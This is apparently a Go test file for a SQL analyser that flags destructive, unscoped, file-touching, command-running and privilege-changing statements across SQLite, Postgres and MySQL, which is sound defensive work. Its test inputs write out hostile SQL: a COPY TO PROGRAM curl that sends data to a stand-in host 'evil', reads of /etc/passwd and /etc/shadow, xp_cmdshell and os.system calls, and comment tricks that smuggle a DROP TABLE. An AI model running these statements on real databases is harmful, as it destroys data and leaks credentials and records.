package sql

import (
	"fmt"
	"strings"
	"testing"
)

// facts sums up what the statements of s do, one fact a word.
func facts(s string, d Dialect) string {
	var out []string
	for _, st := range Split(s, d) {
		for _, x := range st.Destroys() {
			out = append(out, strings.ToLower(x.What)+"("+x.Object+")")
		}
		for _, u := range st.Unscoped() {
			w := "every"
			if u.Always {
				w = "always"
			}
			out = append(out, strings.ToLower(u.Verb)+"-"+w)
		}
		for _, f := range st.Files() {
			k := "read"
			if f.Write {
				k = "write"
			} else if f.Run {
				k = "run"
			}
			out = append(out, fmt.Sprintf("%s[%s %s]", k, f.Via, f.Path))
		}
		for _, c := range st.Inner() {
			out = append(out, "inner{"+strings.TrimSpace(c)+"}")
		}
		if st.Privilege() {
			out = append(out, "privilege")
		}
	}
	return strings.Join(out, " ")
}

func TestFacts(t *testing.T) {
	for _, c := range []struct {
		d        Dialect
		in, want string
	}{
		{SQLite, "SELECT 1", ""},
		{SQLite, "DROP TABLE users", "drop(table)"},
		{SQLite, "drop table if exists \"users\"", "drop(table)"},
		{SQLite, "DROP/**/TABLE x", "drop(table)"},
		{SQLite, "DROP\n\tMATERIALIZED VIEW v", "drop(materialized view)"},
		{SQLite, "DROP TABLESPACE t", "drop(tablespace)"},
		{SQLite, "DROP TEMPORARY TABLE t", ""},
		{SQLite, "DROP PREPARE s", ""},
		{SQLite, "DROP OWNED BY app", "drop(owned)"},
		{SQLite, "ALTER TABLE t DROP COLUMN c", "drop(column)"},
		{SQLite, "ALTER TABLE t DROP c", "alter()"},
		{SQLite, "ALTER TABLE ONLY t DROP CONSTRAINT k", "alter()"},
		{SQLite, "TRUNCATE TABLE t", "truncate(table)"},
		{SQLite, "SELECT truncate(1.5, 0)", ""},
		{SQLite, "SELECT 'DROP TABLE users'", ""},
		{SQLite, "-- DROP TABLE users\nSELECT 1", ""},
		{SQLite, "SELECT '/*'; DROP TABLE users; SELECT '*/'", "drop(table)"},
		{SQLite, "EXPLAIN DELETE FROM users", ""},
		{SQLite, "EXPLAIN QUERY PLAN DELETE FROM users", ""},
		{Postgres, "EXPLAIN ANALYZE DELETE FROM users", "delete-every"},
		{Postgres, "EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM users", "delete-every"},
		// DELETE and UPDATE without a WHERE, or with one always true.
		{SQLite, "DELETE FROM users", "delete-every"},
		{SQLite, "delete from users where id = 5", ""},
		{SQLite, "DELETE FROM users WHERE 1=1", "delete-always"},
		{SQLite, "DELETE FROM users WHERE (1 = 1)", "delete-always"},
		{MySQL, "delete from orders where 1", "delete-always"},
		{MySQL, "DELETE FROM orders WHERE 2-1", "delete-always"},
		{MySQL, "DELETE FROM orders WHERE 0", ""},
		{SQLite, "DELETE FROM users WHERE id = 5 OR 1=1", "delete-always"},
		{SQLite, "DELETE FROM users WHERE id = 5 AND (x = 1 OR 1=1)", ""},
		{SQLite, "DELETE FROM users WHERE 2 > 1", "delete-always"},
		{SQLite, "DELETE FROM users WHERE 'a' = 'a'", "delete-always"},
		{SQLite, "DELETE FROM users WHERE id = id", "delete-always"},
		{SQLite, "DELETE FROM users WHERE \"id\" = id", "delete-always"},
		{SQLite, "DELETE FROM users WHERE NOT false", "delete-always"},
		{SQLite, "DELETE FROM users WHERE 1 IN (1, 2)", "delete-always"},
		{SQLite, "DELETE FROM users WHERE 1 BETWEEN 0 AND 2", "delete-always"},
		{SQLite, "DELETE FROM users WHERE name LIKE '%'", "delete-always"},
		{SQLite, "DELETE FROM users WHERE NULL IS NULL", "delete-always"},
		{SQLite, "DELETE FROM users WHERE EXISTS (SELECT 1)", "delete-always"},
		{SQLite, "DELETE FROM users WHERE EXISTS (SELECT 1 FROM old WHERE old.id = users.id)", ""},
		{MySQL, "DELETE FROM users WHERE 0x1", "delete-always"},
		{SQLite, "DELETE FROM users WHERE true::boolean", "delete-always"},
		{SQLite, "DELETE FROM users WHERE id IN (SELECT id FROM old WHERE 1=1)", ""},
		{SQLite, "DELETE FROM users WHERE", "delete-always"},
		{SQLite, "DELETE FROM users WHERE id = $1", ""},
		{SQLite, "DELETE FROM users -- WHERE id = 5", "delete-every"},
		{SQLite, "DELETE FROM users WHERE name = 'a;b'", ""},
		{SQLite, "DELETE FROM users /* WHERE id = 5 */", "delete-every"},
		{SQLite, "DELETE FROM users USING (SELECT id FROM x WHERE y) s", "delete-every"},
		{SQLite, "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d WHERE x = 1", "delete-every"},
		{SQLite, "DELETE users", "delete-every"},
		{SQLite, "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", ""},
		{SQLite, "DELETE FROM users WHERE id = 1 RETURNING *", ""},
		{SQLite, "DELETE FROM users LIMIT 10", "delete-every"},
		{SQLite, "UPDATE users SET a = 1", "update-every"},
		{SQLite, "UPDATE ONLY users SET a = 1", "update-every"},
		{SQLite, "UPDATE users AS u SET a = 1", "update-every"},
		{SQLite, "UPDATE \"my users\" SET a = 1 WHERE true", "update-always"},
		{SQLite, "UPDATE users SET a = 1 WHERE id = 3", ""},
		{SQLite, "UPDATE users SET a = (SELECT max(b) FROM t WHERE c = 1)", "update-every"},
		{SQLite, "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", ""},
		{SQLite, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", ""},
		{SQLite, "CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)", ""},
		{SQLite, "GRANT SELECT, DELETE, UPDATE ON t TO app", ""},
		{SQLite, "SELECT * FROM t FOR UPDATE", ""},
		{SQLite, "MERGE INTO t USING s ON (1=1) WHEN MATCHED THEN DELETE", "merge-always"},
		{SQLite, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ""},
		{SQLite, "CREATE TRIGGER x BEFORE UPDATE ON t FOR EACH ROW SET NEW.a = 1", ""},
		// Files, commands and SQL run from strings.
		{Postgres, "SELECT pg_read_file('/etc/passwd')", "read[pg_read_file /etc/passwd]"},
		{Postgres, "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", "read[pg_read_file /etc/passwd]"},
		{Postgres, "SELECT lo_export(123, '/tmp/x')", "write[lo_export /tmp/x]"},
		{Postgres, "COPY t TO PROGRAM 'curl -d @- evil'", "run[copy … program curl -d @- evil]"},
		{Postgres, "COPY (SELECT 1) TO '/tmp/out.csv'", "write[copy /tmp/out.csv]"},
		{Postgres, "COPY t FROM '/etc/passwd'", "read[copy /etc/passwd]"},
		{Postgres, "COPY t TO STDOUT", ""},
		{MySQL, "SELECT LOAD_FILE('/etc/shadow')", "read[load_file /etc/shadow]"},
		{MySQL, "SELECT * FROM t INTO OUTFILE '/tmp/x'", "write[into outfile /tmp/x]"},
		{MySQL, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "read[load data infile /etc/passwd]"},
		{SQLite, "VACUUM INTO '/tmp/copy.db'", "write[vacuum into /tmp/copy.db]"},
		{SQLite, "ATTACH DATABASE '/tmp/x.db' AS x", "write[attach /tmp/x.db]"},
		{SQLite, "attach 'file:/tmp/x.db?mode=ro' as x", "read[attach /tmp/x.db]"},
		{SQLite, "ATTACH ':memory:' AS m", ""},
		{SQLite, "SELECT writefile('/tmp/x', data) FROM t", "write[writefile /tmp/x]"},
		{SQLite, "SELECT edit(body, 'vim') FROM t", "run[edit() vim]"},
		{SQLite, "SELECT 'pg_read_file(''/etc/passwd'')'", ""},
		{SQLite, "EXEC xp_cmdshell 'whoami'", "run[xp_cmdshell whoami]"},
		{SQLite, "EXEC master..xp_cmdshell N'whoami'", "run[xp_cmdshell whoami]"},
		{SQLite, "SELECT * FROM OPENQUERY(x, 'a'); EXEC xp_cmdshell(@c)", "run[xp_cmdshell ]"},
		{MySQL, "SELECT sys_exec('id')", "run[sys_exec id]"},
		{Postgres, "DO $$ BEGIN DELETE FROM users; END $$", "inner{BEGIN DELETE FROM users; END}"},
		{Postgres, "DO 'BEGIN DROP TABLE users; END'", "inner{BEGIN DROP TABLE users; END}"},
		{Postgres, "DO LANGUAGE plpgsql $b$ BEGIN END $b$", "inner{BEGIN END}"},
		{MySQL, "PREPARE s FROM 'DROP TABLE users'", "inner{DROP TABLE users}"},
		{Postgres, "DO $$ BEGIN EXECUTE format('TRUNCATE %I', t); END $$", "inner{BEGIN EXECUTE format('TRUNCATE %I', t); END}"},
		{Postgres, "EXECUTE format('TRUNCATE %I', t)", "inner{TRUNCATE %I}"},
		{SQLite, "EXEC('DROP TABLE users')", "inner{DROP TABLE users}"},
		{SQLite, "EXEC sp_executesql N'DROP TABLE users'", "inner{DROP TABLE users}"},
		{SQLite, "EXECUTE IMMEDIATE 'DROP TABLE users'", "inner{DROP TABLE users}"},
		{Postgres, "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", "inner{DROP TABLE users}"},
		{Postgres, "CREATE FUNCTION f() RETURNS void AS 'DELETE FROM users' LANGUAGE sql", "inner{DELETE FROM users}"},
		{SQLite, "INSERT INTO log VALUES ('DROP TABLE users')", ""},
		// Users and privileges.
		{SQLite, "ALTER USER postgres PASSWORD 'x'", "privilege"},
		{SQLite, "GRANT ALL ON SCHEMA public TO app", "privilege"},
		{MySQL, "SET PASSWORD FOR root = 'x'", "privilege"},
		{SQLite, "GRANT SELECT ON t TO app", ""},
		// MySQL: a /*! */ body is code, -- before no space is not a comment.
		{MySQL, "SELECT 1 /*!50000 ; DROP TABLE users */", "drop(table)"},
		{MySQL, "SELECT 1 --1; DROP TABLE users", "drop(table)"},
		{Postgres, "SELECT 1 --1; DROP TABLE users", ""},
		{MySQL, "SELECT 1 # ; DROP TABLE users", ""},
		{Postgres, "SELECT 1 # 2; DROP TABLE users", "drop(table)"},
	} {
		if got := facts(c.in, c.d); got != c.want {
			t.Errorf("%v %q:\n got %q\nwant %q", c.d, c.in, got, c.want)
		}
	}
}

func TestRolledBack(t *testing.T) {
	for _, c := range []struct {
		d    Dialect
		in   string
		want bool
	}{
		{Postgres, "BEGIN; DELETE FROM users; ROLLBACK;", true},
		{Postgres, "begin transaction; drop table users; rollback", true},
		{Postgres, "START TRANSACTION; DELETE FROM users; ROLLBACK WORK", true},
		{Postgres, "BEGIN; DELETE FROM users; COMMIT; BEGIN; ROLLBACK", false},
		{Postgres, "BEGIN; DELETE FROM users; END; ROLLBACK", false},
		{Postgres, "BEGIN; DELETE FROM users; ROLLBACK TO SAVEPOINT a", false},
		{Postgres, "BEGIN; SAVEPOINT a; DELETE FROM users; RELEASE a; ROLLBACK", false},
		{Postgres, "DELETE FROM users; ROLLBACK", false},
		{Postgres, "BEGIN; DELETE FROM users; ROLLBACK; DELETE FROM users", false},
		{Postgres, "BEGIN; SELECT 1; -- ROLLBACK", false},
		{MySQL, "BEGIN; DELETE FROM users; ROLLBACK", true},
		{MySQL, "BEGIN; DROP TABLE users; ROLLBACK", false},
		{MySQL, "START TRANSACTION; TRUNCATE users; ROLLBACK", false},
	} {
		if got := RolledBack(Split(c.in, c.d)); got != c.want {
			t.Errorf("%v %q: RolledBack = %v, want %v", c.d, c.in, got, c.want)
		}
	}
}

func TestRunsWritesCreates(t *testing.T) {
	for _, c := range []struct {
		in                   string
		runs, writes, create bool
	}{
		{"SELECT 1", true, false, false},
		{"EXPLAIN UPDATE t SET a = 1", false, false, false},
		{"EXPLAIN ANALYZE UPDATE t SET a = 1", true, true, false},
		{"SELECT replace(name, 'a', 'b') FROM t", true, false, false},
		{"REPLACE INTO t VALUES (1)", true, true, false},
		{"INSERT INTO t VALUES (1)", true, true, false},
		{"CREATE TABLE t (id int)", true, true, true},
		{"CREATE OR REPLACE TABLE t (id int)", true, true, true},
		{"CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)", true, true, true},
		{"CREATE INDEX i ON t (a)", true, true, false},
		{"SELECT 'create table'", true, false, false},
	} {
		st := Split(c.in, Postgres)[0]
		if st.Runs() != c.runs || st.Writes() != c.writes || st.Creates() != c.create {
			t.Errorf("%q: runs %v writes %v creates %v, want %v %v %v", c.in, st.Runs(), st.Writes(), st.Creates(), c.runs, c.writes, c.create)
		}
	}
}

func TestCalls(t *testing.T) {
	st := Split("SELECT count(*), \"lower\"(x), pg_catalog.now(), a IN (1, 2) FROM t", Postgres)[0]
	var names []string
	for _, c := range st.Calls() {
		names = append(names, fmt.Sprintf("%s/%d", c.Name, len(c.Args)))
	}
	if got, want := strings.Join(names, " "), "count/1 lower/1 pg_catalog.now/0 in/2"; got != want {
		t.Errorf("Calls = %q, want %q", got, want)
	}
}

func TestBodies(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"DO LANGUAGE plpython3u $$import os; os.system('id')$$", "python:import os; os.system('id')"},
		{"DO $x$ system('id') $x$ LANGUAGE plperlu", "perl: system('id') "},
		{"CREATE FUNCTION f() RETURNS text AS $$ id $$ LANGUAGE plsh", "sh: id "},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE 'plpython3u' AS 'return 1'", "python:return 1"},
		{"DO $$ BEGIN END $$", ""},
		{"CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", ""},
	} {
		var got []string
		for _, st := range Split(c.in, Postgres) {
			for _, b := range st.Bodies() {
				got = append(got, b.Lang+":"+b.Text)
			}
		}
		if strings.Join(got, "|") != c.want {
			t.Errorf("%q: Bodies = %q, want %q", c.in, got, c.want)
		}
	}
}
